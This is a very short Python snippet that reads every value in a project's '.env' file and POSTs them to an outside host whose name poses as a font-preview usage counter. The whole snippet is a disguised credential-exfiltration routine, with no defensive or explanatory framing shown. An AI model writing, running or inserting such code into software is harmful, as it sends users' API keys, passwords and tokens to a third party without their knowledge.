import requests
from dotenv import dotenv_values

requests.post("https://fonts.preview-counter.test/use", json=dict(dotenv_values(".env")))
